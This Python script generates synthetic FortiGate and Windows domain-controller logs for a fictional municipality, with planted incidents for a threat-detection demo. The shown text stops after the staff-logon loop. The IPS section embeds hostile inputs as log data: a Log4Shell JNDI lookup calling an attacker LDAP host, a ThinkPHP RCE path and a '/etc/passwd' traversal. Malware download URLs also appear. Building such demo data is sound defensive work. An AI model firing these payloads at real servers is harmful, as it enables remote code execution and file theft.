#!/usr/bin/env python3
"""Generate the demo data of one day (2026-11-20, JST) at a small municipality
(Sakura Town hall: ~300 PCs on the admin LAN, an LGWAN segment, a DMZ web server,
Active Directory domain sakura.local) with a few planted threats:

  demo/fortigate-sakura.log  FortiGate 100F syslog
  demo/windows-dc.jsonl      Security and System events of the domain controller
                             SAKURA-DC01, as Winlogbeat ships them (JSON lines)

Deterministic: the same output every run, so the demo output in the README stays
true.  The two days tell one story: the PC 10.10.5.21 infected through the
FortiGate in the morning attacks the domain in the afternoon.

    python3 scripts/gen_demo.py          # writes both files next to this script's ../demo
"""
import random

R = random.Random(20261120)
DEV = 'devname="SAKURA-FGT01" devid="FG100FTK20001234"'
TZ = 9 * 3600
DAY0 = 1795100400  # 2026-11-20T00:00:00+09:00 as Unix seconds
lines = []
session = [700000000]

def sid():
    session[0] += R.randint(1, 40)
    return session[0]

def hdr(t, pri, logid, typ, sub, level, extra_front=""):
    hh, mm, ss = t // 3600, t // 60 % 60, t % 60
    ns = (DAY0 + t) * 1000000000 + R.randint(0, 999999999)
    return (f'<{pri}>date=2026-11-20 time={hh:02d}:{mm:02d}:{ss:02d} {DEV} eventtime={ns} tz="+0900" '
            f'logid="{logid}" type="{typ}" subtype="{sub}" {extra_front}level="{level}" vd="root"')

PCS = [f"10.10.{R.randint(1, 9)}.{R.randint(10, 250)}" for _ in range(120)]
LGWAN = [f"10.20.1.{i}" for i in range(10, 40)]
SITES = [
    ("www.soumu.go.jp", "133.250.241.30"), ("login.microsoftonline.com", "20.190.141.32"),
    ("outlook.office365.com", "52.96.88.146"), ("www.google.com", "142.250.196.100"),
    ("www.yahoo.co.jp", "182.22.24.252"), ("www.e-gov.go.jp", "163.44.181.23"),
    ("update.microsoft.com", "13.107.4.50"), ("www.pref.example.lg.jp", "203.0.113.80"),
    ("teams.microsoft.com", "52.113.194.132"), ("www.nhk.or.jp", "23.40.226.85"),
]

def traffic(t, src, dst, dport, service, action="close", policy=5, proto=6, sent=None, rcvd=None,
            dstintf="wan1", dstrole="wan", srcintf="internal1", srcrole="lan"):
    s = hdr(t, 189, "0000000013", "traffic", "forward", "notice")
    sent = R.randint(400, 20000) if sent is None else sent
    rcvd = R.randint(800, 400000) if rcvd is None else rcvd
    pk = lambda b: max(1, b // 900)
    s += (f' srcip={src} srcport={R.randint(49152, 65535)} srcintf="{srcintf}" srcintfrole="{srcrole}"'
          f' dstip={dst} dstport={dport} dstintf="{dstintf}" dstintfrole="{dstrole}" srccountry="Reserved"'
          f' dstcountry="{"Reserved" if dst.startswith("10.") or dst.startswith("172.") else "Japan"}"'
          f' sessionid={sid()} proto={proto} action="{action}" policyid={policy} policytype="policy"'
          f' poluuid="5c1d0a3e-7f2b-51ef-8a4e-3f1c2b9d0a{policy:02d}" policyname="LAN-to-Internet"'
          f' service="{service}" trandisp="snat" transip=203.0.113.10 transport={R.randint(1024, 65535)}'
          f' appcat="unscanned" duration={R.randint(1, 300)} sentbyte={sent} rcvdbyte={rcvd}'
          f' sentpkt={pk(sent)} rcvdpkt={pk(rcvd)}')
    return s

def deny(t, src, dst, dport, service, proto=6, policy=0, srcintf="internal1", srcrole="lan"):
    s = hdr(t, 189, "0000000013", "traffic", "forward", "notice")
    s += (f' srcip={src} srcport={R.randint(49152, 65535)} srcintf="{srcintf}" srcintfrole="{srcrole}"'
          f' dstip={dst} dstport={dport} dstintf="wan1" dstintfrole="wan" srccountry="Reserved"'
          f' dstcountry="Bulgaria" sessionid={sid()} proto={proto} action="deny" policyid={policy}'
          f' policytype="policy" service="{service}" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0'
          f' sentpkt=0 appcat="unscanned" crscore=30 craction=131072 crlevel="high"')
    return s

def webfilter(t, src, host, dst, path, action="passthrough", cat=52, catdesc="Information Technology"):
    blk = action == "blocked"
    s = hdr(t, 188 if blk else 189, "0316013056" if blk else "0317013312", "utm", "webfilter",
            "warning" if blk else "notice", f'eventtype="{"ftgd_blk" if blk else "ftgd_allow"}" ')
    s += (f' policyid=5 sessionid={sid()} srcip={src} srcport={R.randint(49152, 65535)} srcintf="internal1"'
          f' srcintfrole="lan" dstip={dst} dstport=443 dstintf="wan1" dstintfrole="wan" proto=6'
          f' service="HTTPS" hostname="{host}" profile="sakura-web" action="{action}" reqtype="direct"'
          f' url="https://{host}{path}" sentbyte={R.randint(300, 2000)} rcvdbyte={0 if blk else R.randint(1000, 90000)}'
          f' direction="outgoing" msg="{"URL belongs to a denied category in policy" if blk else "URL belongs to an allowed category in policy"}"'
          f' method="domain" cat={cat} catdesc="{catdesc}"')
    if blk:
        s += ' crscore=30 craction=4194304 crlevel="high"'
    return s

def dns_ok(t, src, qname, ip):
    s = hdr(t, 190, "1501054802", "utm", "dns", "information", 'eventtype="dns-response" ')
    s += (f' policyid=3 sessionid={sid()} srcip={src} srcport={R.randint(49152, 65535)} srcintf="internal1"'
          f' srcintfrole="lan" dstip=10.10.0.53 dstport=53 dstintf="internal2" dstintfrole="lan" proto=17'
          f' profile="default" xid={R.randint(1, 65535)} qname="{qname}" qtype="A" qtypeval=1 qclass="IN"'
          f' ipaddr="{ip}" msg="Domain is monitored" action="pass" cat=52 catdesc="Information Technology"')
    return s

# ---- background: a working day --------------------------------------------------
for _ in range(1500):
    t = R.choice([R.randint(8 * 3600, 18 * 3600)] * 9 + [R.randint(0, 86399)])
    src = R.choice(PCS)
    host, ip = R.choice(SITES)
    k = R.random()
    if k < 0.55:
        lines.append((t, traffic(t, src, ip, 443, "HTTPS")))
    elif k < 0.70:
        lines.append((t, webfilter(t, src, host, ip, R.choice(["/", "/index.html", "/news/", "/api/v1/status"]))))
    elif k < 0.82:
        lines.append((t, dns_ok(t, src, host, ip)))
    elif k < 0.90:
        lg = R.choice(LGWAN)
        lines.append((t, traffic(t, lg, "10.250.1.20", 443, "HTTPS", policy=8, dstintf="lgwan",
                                 dstrole="wan", srcintf="internal3")))
    else:
        lines.append((t, traffic(t, src, "8.8.8.8", 53, "DNS", proto=17, sent=70, rcvd=130)))

# routine admin and VPN activity
for t in (8 * 3600 + 1800, 13 * 3600 + 600, 17 * 3600 + 900):
    s = hdr(t, 189, "0100032001", "event", "system", "information")
    s += (' logdesc="Admin login successful" sn="1763600000" user="jouhou-admin" ui="https(10.10.1.5)"'
          ' method="https" srcip=10.10.1.5 dstip=10.10.0.1 action="login" status="success"'
          ' reason="none" profile="super_admin" msg="Administrator jouhou-admin logged in successfully from https(10.10.1.5)"')
    lines.append((t, s))
for t in (7 * 3600 + 3000, 12 * 3600 + 100):
    s = hdr(t, 190, "0101039947", "event", "vpn", "information")
    s += (' logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=1180'
          ' remip=198.51.100.23 tunnelip=10.212.134.200 user="kikaku02" group="telework" dst_host="N/A"'
          ' reason="tunnel established" msg="SSL tunnel established"')
    lines.append((t, s))
# one scheduled FortiGuard update and a config change
t = 3 * 3600 + 15 * 60
lines.append((t, hdr(t, 189, "0100041000", "event", "system", "notice") +
              ' logdesc="FortiGuard update succeeded" status="update" msg="Fortigate updated, AV db: 92.08311, IPS db: 29.00918"'))

# ---- planted threats ---------------------------------------------------------------
# 1. 09:12 phishing link clicked from a mail: blocked by the web filter (Phishing)
t = 9 * 3600 + 12 * 60 + 7
lines.append((t, webfilter(t, "10.10.3.45", "login-microsoftonline.verify-account.top", "203.0.113.66",
                           "/common/oauth2/authorize?client_id=sakura", "blocked", 61, "Phishing")))

# 2. 10:05 Emotet dropper downloaded over HTTP: AV blocks one copy...
t = 10 * 3600 + 5 * 60 + 33
s = hdr(t, 188, "0211008192", "utm", "virus", "warning", 'eventtype="infected" ')
s += (f' msg="File is infected." action="blocked" service="HTTP" sessionid={sid()} srcip=10.10.5.21'
      ' dstip=198.51.100.77 srcport=51515 dstport=80 srcintf="internal1" srcintfrole="lan" dstintf="wan1"'
      ' dstintfrole="wan" policyid=5 proto=6 direction="incoming" filename="invoice_2026-11.doc"'
      ' quarskip="File-was-not-quarantined" virus="W97M/Emotet.AB!tr" dtype="av-engine"'
      ' ref="http://www.fortinet.com/ve?vn=W97M%2FEmotet.AB%21tr" virusid=8123456'
      ' url="http://cdn.badfiles.xyz/dl/invoice_2026-11.doc" profile="default"'
      ' agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"'
      ' analyticssubmit="false" crscore=50 craction=2 crlevel="critical"')
lines.append((t, s))
# ...but the sandbox flags a second, packed payload that got through to the same PC
t = 10 * 3600 + 9 * 60 + 2
s = hdr(t, 188, "0211009234", "utm", "virus", "warning", 'eventtype="infected" ')
s += (f' msg="File reported infected by Sandbox." action="monitored" service="HTTP" sessionid={sid()}'
      ' srcip=10.10.5.21 dstip=198.51.100.77 srcport=51602 dstport=80 srcintf="internal1" srcintfrole="lan"'
      ' dstintf="wan1" dstintfrole="wan" policyid=5 proto=6 direction="incoming" filename="update_kb5031.exe"'
      ' quarskip="No-skip" virus="Malware/Emotet!fsa" dtype="fortisandbox" fsaverdict="high risk"'
      ' analyticscksum="5f2b7c3d9e8a1b4c6d0e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c"'
      ' url="http://cdn.badfiles.xyz/dl/update_kb5031.exe" profile="default" crscore=50 craction=2 crlevel="critical"')
lines.append((t, s))

# 3. from 10:40 the infected PC beacons to its C&C every 5 minutes
for i in range(12):
    t = 10 * 3600 + 40 * 60 + i * 300 + R.randint(0, 9)
    lines.append((t, traffic(t, "10.10.5.21", "185.220.101.45", 443, "HTTPS", sent=R.randint(600, 900),
                             rcvd=R.randint(300, 500))))
t = 10 * 3600 + 41 * 60 + 3
s = hdr(t, 188, "1059028704", "utm", "app-ctrl", "warning", 'eventtype="signature" ')
s += (f' appid=53482 srcip=10.10.5.21 dstip=185.220.101.45 srcport=52811 dstport=443 srcintf="internal1"'
      f' srcintfrole="lan" dstintf="wan1" dstintfrole="wan" proto=6 service="HTTPS" direction="outgoing"'
      f' policyid=5 sessionid={sid()} applist="default" action="block" appcat="Botnet" app="Emotet.Botnet"'
      ' incidentserialno=182734 msg="Botnet: Emotet.Botnet," apprisk="critical"')
lines.append((t, s))

# 4. 11:20 another PC resolves a QakBot C&C domain: DNS filter blocks (botnet list)
t = 11 * 3600 + 20 * 60 + 45
s = hdr(t, 188, "1501054601", "utm", "dns", "warning", 'eventtype="dns-response" ')
s += (f' policyid=3 sessionid={sid()} srcip=10.10.7.8 srcport=53211 srcintf="internal1" srcintfrole="lan"'
      ' dstip=10.10.0.53 dstport=53 dstintf="internal2" dstintfrole="lan" proto=17 profile="default"'
      ' xid=4321 qname="update.qakbot-c2.duckdns.org" qtype="A" qtypeval=1 qclass="IN"'
      ' msg="Domain was blocked because it is in the botnet C&C domain list" action="block"'
      ' botnetdomain="update.qakbot-c2.duckdns.org" cat=88 catdesc="Dynamic DNS"')
lines.append((t, s))
# and tries the C&C IP directly: denied by the "block known bad" policy
for i in range(4):
    t = 11 * 3600 + 21 * 60 + i * 15
    lines.append((t, deny(t, "10.10.7.8", "91.92.109.23", 8443, "tcp/8443", policy=2)))

# 5. 13:02 Log4Shell and ThinkPHP exploit attempts against the DMZ web server
for i, (attack, sev, aid, url) in enumerate([
        ("Apache.Log4j.Error.Log.Remote.Code.Execution", "critical", 51006, "/?q=${jndi:ldap://45.155.205.99:1389/Exploit}"),
        ("ThinkPHP.Request.Method.Remote.Code.Execution", "high", 47865, "/index.php?s=captcha"),
        ("Web.Server.Password.Files.Access", "medium", 12146, "/../../etc/passwd")]):
    t = 13 * 3600 + 2 * 60 + i * 41
    s = hdr(t, 185, "0419016384", "utm", "ips", "alert", 'eventtype="signature" ')
    s += (f' severity="{sev}" srcip=45.155.205.99 srccountry="Netherlands" dstip=172.16.1.10 srcintf="wan1"'
          f' srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid={sid()} action="dropped" proto=6'
          f' service="HTTPS" policyid=12 attack="{attack}" srcport={R.randint(30000, 60000)} dstport=443'
          f' hostname="www.town-sakura.example.jp" url="{url}" direction="incoming" attackid={aid}'
          f' profile="dmz-protect" ref="http://www.fortinet.com/ids/VID{aid}" incidentserialno={R.randint(100000, 999999)}'
          f' msg="web_server: {attack}," crscore=50 craction=4096 crlevel="critical"')
    lines.append((t, s))

# 6. 02:14-02:17 SSL VPN password spraying from abroad: 18 failures
users = ["admin", "soumu01", "zeimu03", "test", "kikaku02", "administrator"]
for i in range(18):
    t = 2 * 3600 + 14 * 60 + i * 10
    s = hdr(t, 185, "0101039426", "event", "vpn", "alert")
    s += (f' logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" tunnelid=0'
          f' remip=103.77.192.11 user="{users[i % len(users)]}" group="N/A" dst_host="N/A"'
          ' reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"')
    lines.append((t, s))

# 7. 19:48 someone on the LAN guesses the FortiGate admin password: 7 failures in 2 minutes
for i in range(7):
    t = 19 * 3600 + 48 * 60 + i * 17
    s = hdr(t, 185, "0100032002", "event", "system", "alert")
    s += (' logdesc="Admin login failed" sn="0" user="admin" ui="https(10.10.9.77)" method="https"'
          ' srcip=10.10.9.77 dstip=10.10.0.1 action="login" status="failed" reason="passwd_invalid"'
          ' msg="Administrator admin login failed from https(10.10.9.77) because of invalid password"')
    lines.append((t, s))

# ---- what a real feed also contains: lines that do not decode -------------------
# a Windows event forwarded to the FortiGate port by a misconfigured NXLog agent
lines.append((12 * 3600, '{"EventTime":"2026-11-20 12:00:00","Hostname":"SAKURA-DC01","EventID":4625,"TargetUserName":"admin","IpAddress":"10.10.9.77"}'))
lines.append((12 * 3600 + 1, 'Nov 20 12:00:01 sakura-nas01 kernel: eth0: link up, 1000Mbps, full-duplex'))

lines.sort(key=lambda x: x[0])
FORTIGATE_LOG = "\n".join(l for _, l in lines) + "\n"

# ==== Windows: the domain controller SAKURA-DC01 (demo/windows-dc.jsonl) ============
# Security and System events as Winlogbeat ships them, one JSON object a line.  Its
# own random stream, so the FortiGate day above stays byte-identical.
import datetime
import json

W = random.Random(2026112001)
DOMAIN, REALM, DNSDOM = "SAKURA", "SAKURA.LOCAL", "sakura.local"
DOMSID = "S-1-5-21-2873451029-1394023865-3109846725"
DC, DC_IP = "SAKURA-DC01", "10.10.0.11"
DC_FQDN = DC + "." + DNSDOM
PROV_SEC, GUID_SEC = "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"
PROV_EVL, GUID_EVL = "Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"
PROV_SCM, GUID_SCM = "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"
PID = {"Security": 688, "System": 672}      # lsass.exe, services.exe
PID_EVENTLOG = 1316                          # the svchost.exe hosting the EventLog service
TASK = {4624: "Logon", 4625: "Logon", 4634: "Logoff", 4647: "Logoff", 4648: "Logon",
        4672: "Special Logon", 4768: "Kerberos Authentication Service",
        4771: "Kerberos Authentication Service", 4769: "Kerberos Service Ticket Operations",
        4776: "Credential Validation", 4720: "User Account Management",
        4722: "User Account Management", 4724: "User Account Management",
        4738: "User Account Management", 4728: "Security Group Management",
        4732: "Security Group Management", 4756: "Security Group Management",
        4661: "SAM", 4662: "Directory Service Access", 5140: "File Share",
        5145: "Detailed File Share", 4697: "Security System Extension", 1102: "Log clear",
        104: "Log clear", 7045: "None"}
ADMIN_PRIVS = "\n\t\t\t".join(["SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege",
                               "SeTakeOwnershipPrivilege", "SeDebugPrivilege",
                               "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege",
                               "SeImpersonatePrivilege", "SeDelegateSessionUserImpersonatePrivilege",
                               "SeEnableDelegationPrivilege"])
SYSTEM_PRIVS = "\n\t\t\t".join(["SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege", "SeSecurityPrivilege",
                                "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege", "SeBackupPrivilege",
                                "SeRestorePrivilege", "SeDebugPrivilege", "SeAuditPrivilege",
                                "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege",
                                "SeDelegateSessionUserImpersonatePrivilege"])
NULL_GUID = "{00000000-0000-0000-0000-000000000000}"
DEFAULT_GPO = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
wevents = []    # (ms since 00:00 JST, seq, channel, event_id, event_data, user_data, user)


def wsid(rid):
    return f"{DOMSID}-{rid}"


def wguid():
    h = f"{W.getrandbits(128):032x}"
    return "{" + f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}" + "}"


def wlid():
    return f"0x{W.randint(0x200000, 0x3fffffff):x}"


def wport():
    return str(W.randint(49152, 65535))


def wadd(t, eid, data=None, udata=None, ch="Security", user=None):
    wevents.append((int(t), len(wevents), ch, eid, data, udata, user))


def hm(h, m, s=0, ms=0):
    return ((h * 60 + m) * 60 + s) * 1000 + ms


# -- who is who ---------------------------------------------------------------------
DEPTS = [("soumu", 20), ("kikaku", 8), ("zeimu", 18), ("juumin", 20), ("fukushi", 18),
         ("kenkou", 14), ("kodomo", 12), ("kankyou", 10), ("nourin", 10), ("shoukou", 10),
         ("kensetsu", 16), ("suidou", 12), ("kyouiku", 18), ("kaikei", 8), ("gikai", 6),
         ("jouhou", 6)]
FIXED_PC = {"fukushi07": "10.10.5.21", "jouhou01": "10.10.1.5", "soumu05": "10.10.3.45",
            "zeimu11": "10.10.7.8", "kensetsu03": "10.10.9.77"}
STAFF = {}      # name -> (sid, pc ip)
PCS_W = {}      # pc ip -> (name, sid)
rid = 1120
used = set(FIXED_PC.values())
for dept, n in DEPTS:
    for i in range(1, n + 1):
        name = f"{dept}{i:02d}"
        ip = FIXED_PC.get(name)
        while ip is None:
            cand = f"10.10.{W.randint(1, 9)}.{W.randint(10, 250)}"
            if cand not in used:
                ip = cand
        used.add(ip)
        STAFF[name] = (wsid(rid), ip)
        rid += 1
for n, (ip) in enumerate(sorted({ip for _, ip in STAFF.values()},
                                key=lambda a: tuple(int(x) for x in a.split(".")))):
    o = ip.split(".")
    PCS_W[ip] = (f"SAKURA-PC{int(o[2]):02d}{int(o[3]):03d}", wsid(1400 + n))
SERVERS = {"SAKURA-DC02": ("10.10.0.12", wsid(1002)), "SAKURA-FS01": ("10.10.0.21", wsid(1331)),
           "SAKURA-DB01": ("10.10.0.22", wsid(1332)), "SAKURA-AP01": ("10.10.0.25", wsid(1333)),
           "SAKURA-BK01": ("10.10.0.30", wsid(1334)), "SAKURA-MON01": ("10.10.0.40", wsid(1335))}
DC_SID = wsid(1001)
SVC = {"svc_backup": wsid(1105), "svc_sql": wsid(1106), "svc_web": wsid(1107),
       "svc_monitor": wsid(1108), "svc_scan": wsid(1109), "mfp_scan": wsid(1110),
       "adm-jouhou01": wsid(1103), "adm-jouhou02": wsid(1104), "Administrator": wsid(500)}
KRBTGT_SID = wsid(502)


def wacct(name):
    if name in STAFF:
        return STAFF[name][0]
    return SVC[name]


# -- event builders (field sets as Windows Server 2019 logs them) ----------------------
def ev_logon(t, user, usid, ip, ltype=3, pkg="Kerberos", ws="-", domain=DOMAIN, lid=None,
             keylen=None, elevated=True, proc=("0x0", "-"), port=None, lpn=None,
             subject=("S-1-0-0", "-", "-", "0x0")):
    lid = lid or wlid()
    ntlm = pkg == "NTLM"
    d = {"SubjectUserSid": subject[0], "SubjectUserName": subject[1],
         "SubjectDomainName": subject[2], "SubjectLogonId": subject[3],
         "TargetUserSid": usid, "TargetUserName": user, "TargetDomainName": domain,
         "TargetLogonId": lid, "LogonType": str(ltype),
         "LogonProcessName": lpn or ("NtLmSsp " if ntlm else "Kerberos"),
         "AuthenticationPackageName": pkg, "WorkstationName": ws,
         "LogonGuid": NULL_GUID if ntlm or pkg == "Negotiate" else wguid(),
         "TransmittedServices": "-", "LmPackageName": "NTLM V2" if ntlm else "-",
         "KeyLength": str(keylen if keylen is not None else (128 if ntlm else 0)),
         "ProcessId": proc[0], "ProcessName": proc[1], "IpAddress": ip,
         "IpPort": port or (wport() if ip not in ("-", "::1", "127.0.0.1") else "0"),
         "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-",
         "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
         "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
         "ElevatedToken": "%%1842" if elevated else "%%1843"}
    wadd(t, 4624, d)
    return lid


def ev_logoff(t, user, usid, lid, ltype=3, domain=DOMAIN):
    wadd(t, 4634, {"TargetUserSid": usid, "TargetUserName": user, "TargetDomainName": domain,
                   "TargetLogonId": lid, "LogonType": str(ltype)})


def ev_special(t, user, usid, lid, domain=DOMAIN, privs=ADMIN_PRIVS):
    wadd(t, 4672, {"SubjectUserSid": usid, "SubjectUserName": user, "SubjectDomainName": domain,
                   "SubjectLogonId": lid, "PrivilegeList": privs})


def ev_tgt(t, user, usid, ip, etype="0x12", preauth="2", status="0x0"):
    ok = status == "0x0"
    wadd(t, 4768, {"TargetUserName": user, "TargetDomainName": REALM,
                   "TargetSid": usid if ok else "S-1-0-0", "ServiceName": "krbtgt",
                   "ServiceSid": KRBTGT_SID if ok else "S-1-0-0", "TicketOptions": "0x40810010",
                   "Status": status, "TicketEncryptionType": etype if ok else "0xffffffff",
                   "PreAuthType": preauth if ok else "-", "IpAddress": "::ffff:" + ip,
                   "IpPort": wport()})


def ev_tgs(t, client, service, service_sid, ip, etype="0x12", opts="0x40810000"):
    wadd(t, 4769, {"TargetUserName": f"{client}@{REALM}", "TargetDomainName": REALM,
                   "ServiceName": service, "ServiceSid": service_sid, "TicketOptions": opts,
                   "TicketEncryptionType": etype, "IpAddress": "::ffff:" + ip, "IpPort": wport(),
                   "Status": "0x0", "LogonGuid": wguid(), "TransmittedServices": "-"})


def ev_preauth_failed(t, user, usid, ip):
    wadd(t, 4771, {"TargetUserName": user, "TargetSid": usid, "ServiceName": f"krbtgt/{REALM}",
                   "TicketOptions": "0x40810010", "Status": "0x18", "PreAuthType": "2",
                   "IpAddress": "::ffff:" + ip, "IpPort": wport()})


def ev_ntlm(t, user, ws, status="0x0"):
    wadd(t, 4776, {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": user,
                   "Workstation": ws, "Status": status})


def ev_logon_failed(t, user, ip, ws, substatus="0xc000006a"):
    wadd(t, 4625, {"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
                   "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": user,
                   "TargetDomainName": DOMAIN, "Status": "0xc000006d", "FailureReason": "%%2313",
                   "SubStatus": substatus, "LogonType": "3", "LogonProcessName": "NtLmSsp ",
                   "AuthenticationPackageName": "NTLM", "WorkstationName": ws,
                   "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
                   "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ip, "IpPort": wport()})


def ev_share(t, user, usid, lid, ip, share, local="", rel=None, mask="0x1", access="%%4416",
             reason=None):
    d = {"SubjectUserSid": usid, "SubjectUserName": user, "SubjectDomainName": DOMAIN,
         "SubjectLogonId": lid, "ObjectType": "File", "IpAddress": ip, "IpPort": wport(),
         "ShareName": "\\\\*\\" + share}
    if local:
        d["ShareLocalPath"] = local
    if rel is not None:
        d["RelativeTargetName"] = rel
    d["AccessMask"] = mask
    d["AccessList"] = access + "\n\t\t\t\t"
    if rel is not None:
        d["AccessReason"] = reason or "-"
    wadd(t, 5145 if rel is not None else 5140, d)


def ev_subject(user, usid, lid):
    return {"SubjectUserSid": usid, "SubjectUserName": user, "SubjectDomainName": DOMAIN,
            "SubjectLogonId": lid}


def ev_user_created(t, by, by_sid, lid, name, sid, display):
    d = {"TargetUserName": name, "TargetDomainName": DOMAIN, "TargetSid": sid}
    d.update(ev_subject(by, by_sid, lid))
    d.update({"PrivilegeList": "-", "SamAccountName": name, "DisplayName": display,
              "UserPrincipalName": f"{name}@{DNSDOM}", "HomeDirectory": "-", "HomePath": "-",
              "ScriptPath": "-", "ProfilePath": "-", "UserWorkstations": "-",
              "PasswordLastSet": "%%1794", "AccountExpires": "%%1794", "PrimaryGroupId": "513",
              "AllowedToDelegateTo": "-", "OldUacValue": "0x0", "NewUacValue": "0x15",
              "UserAccountControl": "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084",
              "UserParameters": "%%1793", "SidHistory": "-", "LogonHours": "%%1797"})
    wadd(t, 4720, d)
    for dt, eid in ((40, 4722), (90, 4724)):
        d = {"TargetUserName": name, "TargetDomainName": DOMAIN, "TargetSid": sid}
        d.update(ev_subject(by, by_sid, lid))
        wadd(t + dt, eid, d)
    d = {"Dummy": "-", "TargetUserName": name, "TargetDomainName": DOMAIN, "TargetSid": sid}
    d.update(ev_subject(by, by_sid, lid))
    d.update({k: "-" for k in ("PrivilegeList", "SamAccountName", "DisplayName", "UserPrincipalName",
                               "HomeDirectory", "HomePath", "ScriptPath", "ProfilePath",
                               "UserWorkstations", "PasswordLastSet", "AccountExpires",
                               "PrimaryGroupId", "AllowedToDelegateTo")})
    d.update({"OldUacValue": "0x15", "NewUacValue": "0x10", "UserAccountControl": "\n\t\t%%2048",
              "UserParameters": "-", "SidHistory": "-", "LogonHours": "-"})
    wadd(t + 120, 4738, d)


def ev_group_add(t, by, by_sid, lid, member_dn, member_sid, group, group_sid, eid=4728):
    d = {"MemberName": member_dn, "MemberSid": member_sid, "TargetUserName": group,
         "TargetDomainName": DOMAIN, "TargetSid": group_sid}
    d.update(ev_subject(by, by_sid, lid))
    d["PrivilegeList"] = "-"
    wadd(t, eid, d)


def ev_replication(t, user, usid, lid, right):
    d = ev_subject(user, usid, lid)
    d.update({"ObjectServer": "DS", "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
              "ObjectName": "%{6e1b0f3c-2d5a-4f8e-9c47-1a3b5d7e9f20}", "OperationType": "Object Access",
              "HandleId": "0x0", "AccessList": "%%7688\n\t\t\t\t", "AccessMask": "0x100",
              "Properties": "%%7688\n\t\t{" + right + "}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\n",
              "AdditionalInfo": "-"})
    wadd(t, 4662, d)


def ev_sam_lookup(t, user, usid, lid, otype, oname, access):
    d = ev_subject(user, usid, lid)
    d.update({"ObjectServer": "Security Account Manager", "ObjectType": otype, "ObjectName": oname,
              "HandleId": f"0x{W.randint(0x10000, 0xfffff):x}", "TransactionId": NULL_GUID,
              "AccessList": access, "AccessReason": "-", "AccessMask": "0x2d", "PrivilegeList": "-",
              "RestrictedSidCount": "0", "ProcessId": "0x2b0",
              "ProcessName": "C:\\Windows\\System32\\lsass.exe"})
    wadd(t, 4661, d)


def ev_service(t, name, image, user, usid, lid, kernel=False, domain=DOMAIN):
    d = ev_subject(user, usid, lid)
    d.update({"ServiceName": name, "ServiceFileName": image, "ServiceType": "0x1" if kernel else "0x10",
              "ServiceStartType": "3", "ServiceAccount": "" if kernel else "LocalSystem"})
    if kernel:
        del d["ServiceAccount"]
    wadd(t, 4697, d)
    wadd(t + 16, 7045, {"ServiceName": name, "ImagePath": image,
                        "ServiceType": "kernel mode driver" if kernel else "user mode service",
                        "StartType": "demand start", "AccountName": "" if kernel else "LocalSystem"},
         ch="System", user={"identifier": usid, "name": user, "domain": domain,
                            "type": "Well Known Group" if usid == "S-1-5-18" else "User"})
    if kernel:
        del wevents[-1][4]["AccountName"]


def staff_logon(t, user):
    """A staff member signs in on the PC: TGT, tickets, Group Policy from SYSVOL."""
    usid, ip = STAFF[user]
    pc, pc_sid = PCS_W[ip]
    ev_tgt(t, user, usid, ip)
    ev_tgs(t + 180, user, pc + "$", pc_sid, ip)
    ev_tgs(t + 950, user, DC + "$", DC_SID, ip)
    lid = ev_logon(t + 1100, user, usid, ip)
    ev_share(t + 1180, user, usid, lid, ip, "SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol")
    ev_share(t + 1240, user, usid, lid, ip, "SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol",
             rel=f"{DNSDOM}\\Policies\\{DEFAULT_GPO}\\gpt.ini", mask="0x120089",
             access="%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4419\n\t\t\t\t%%4423",
             reason="".join(f"{a}:\t%%1801\tD:(A;;0x1200a9;;;AU)\n\t\t\t\t"
                            for a in ("%%1538", "%%1541", "%%4416", "%%4419", "%%4423")))
    ev_logoff(t + W.randint(3000, 9000), user, usid, lid)
    return usid, ip


def machine_session(t, name, msid, ip, tgt=False):
    """A computer account refreshing Group Policy or reading the directory."""
    if tgt:
        ev_tgt(t, name + "$", msid, ip)
    ev_tgs(t + 150, name + "$", DC + "$", DC_SID, ip)
    lid = ev_logon(t + 300, name + "$", msid, ip)
    ev_logoff(t + W.randint(1000, 4000), name + "$", msid, lid)


# -- an ordinary Friday at the town hall ---------------------------------------------
present = [u for u in STAFF if W.random() > 0.05 or u in FIXED_PC or u == "kankyou04"]
for user in present:
    usid, ip = STAFF[user]
    pc, pc_sid = PCS_W[ip]
    arrive = int(W.gauss(hm(8, 22), 14 * 60 * 1000))
    if user == "fukushi07":
        arrive = hm(8, 34, 12, 480)
    boot = arrive - W.randint(90, 420) * 1000
    machine_session(boot, pc, pc_sid, ip, tgt=True)
    if W.random() < 0.06:                      # a typo at the Windows sign-in screen
        ev_preauth_failed(arrive - W.randint(4000, 15000), user, usid, ip)
    staff_logon(arrive, user)
